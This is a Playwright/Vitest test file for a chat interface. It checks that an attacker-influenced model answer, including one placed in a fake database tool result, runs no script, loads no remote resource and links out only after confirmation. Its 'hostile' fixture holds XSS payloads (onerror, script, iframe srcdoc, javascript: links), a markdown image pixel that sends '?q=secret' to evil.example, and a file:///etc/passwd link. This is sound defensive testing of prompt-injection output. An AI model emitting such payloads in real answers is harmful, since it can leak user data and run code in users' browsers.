import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { expectAccessible } from './browser.ts'
import { ask, openHouse, signIn, type House } from './house.ts'

let house: House
beforeAll(async () => {
  house = await openHouse({ provider: true })
})
afterAll(() => house.close())

/** What a model may write that read what an attacker wrote. The fake says again what it is asked. */
const hostile = `Look:

<img src="https://evil.example/pixel.png" onerror="alert(1)">
<script>alert(2)</script>
<iframe srcdoc="<script>parent.alert(3)</script>"></iframe>
<svg><a xlink:href="javascript:alert(4)">svg</a></svg>

![pixel](https://evil.example/pixel.png?q=secret)
![scripted](javascript:alert(5))
![data](data:text/html,<script>alert(6)</script>)

[script](javascript:alert(7)), [entity](&#106;avascript:alert&lpar;8&rpar;), [vb](vbscript:x), [file](file:///etc/passwd),
[path](/api/me), [other](//evil.example/x), <javascript:alert(9)>, [defined][d], note[^1], [sandbox](sandbox:/mnt/data/x.html)

&copy; &notit; &CounterClockwiseContourIntegral;

[d]: javascript:alert(10)
[^1]: A [note](javascript:alert(11)).
`

/** Where links of the thread lead, and what in it loads or runs something. */
function reach(page: Page) {
  return page.getByRole('log').evaluate((log) => ({
    links: [...log.querySelectorAll('a')].map((a) => new URL(a.href).protocol + new URL(a.href).host),
    outside: [...log.querySelectorAll<HTMLElement>('[src], [srcdoc], iframe, script, object, embed')].map(
      (e) => e.outerHTML,
    ),
  }))
}

describe('an answer that an attacker wrote', () => {
  test('runs nothing, loads nothing and leads nowhere but to the web, once that is agreed to', async () => {
    const { page, context, troubles } = await signIn(house)
    page.on('dialog', (dialog) => {
      troubles.push(`dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
    await ask(page, hostile)
    const answer = page.locator('.prose').last()
    await answer.getByText('Look:').waitFor()
    const { links, outside } = await reach(page)
    expect({ links: [...new Set(links)], outside }).toEqual({ links: ['https:evil.example'], outside: [] })
    // Named characters are read by a table, not by the browser's parser of HTML.
    expect(await answer.innerText()).toMatch(/© ¬?(&not)?it; ∳/)

    const pixel = answer.getByRole('link', { name: 'pixel' })
    await pixel.click()
    const asked = page.getByRole('dialog', { name: 'Leave for another site?' })
    await asked.waitFor()
    expect(await asked.innerText()).toContain('https://evil.example/pixel.png?q=secret')
    await expectAccessible(page, 'leaving')
    await page.keyboard.press('Escape')
    await expect.poll(() => pixel.evaluate((e) => e === document.activeElement)).toBe(true)
    expect(context.pages()).toHaveLength(1)
    expect(troubles).toEqual([])
    await context.close()
  })

  test('may stand in a row and in the words of a tool, too', async () => {
    const { page, context, troubles } = await signIn(house)
    const cell = `<img src=https://evil.example/p.png onerror=alert(1)> [x](javascript:alert(2))`
    await ask(
      page,
      `fake:call db__read_query ${JSON.stringify({ query: `SELECT '${cell}' AS "<b>head</b>"` })}`,
    )
    await page.locator('.ledger').getByRole('button').first().click()
    await page.getByRole('table').first().waitFor()
    expect(await page.getByRole('log').innerText()).toContain(cell)
    // What looks like an address of the web is a link in text, by the rules of Markdown.
    expect(await reach(page)).toEqual({ links: ['https:evil.example'], outside: [] })
    expect(troubles).toEqual([])
    await context.close()
  })

  test('cannot have the page make HTML of text, whatever code tries', async () => {
    const { page, context } = await signIn(house)
    const made = await page.evaluate(() => {
      try {
        document.createElement('i').innerHTML = '<b>x</b>'
        return 'made'
      } catch (error) {
        return error instanceof TypeError ? 'forbidden' : String(error)
      }
    })
    expect(made).toBe('forbidden')
    await context.close()
  })
})
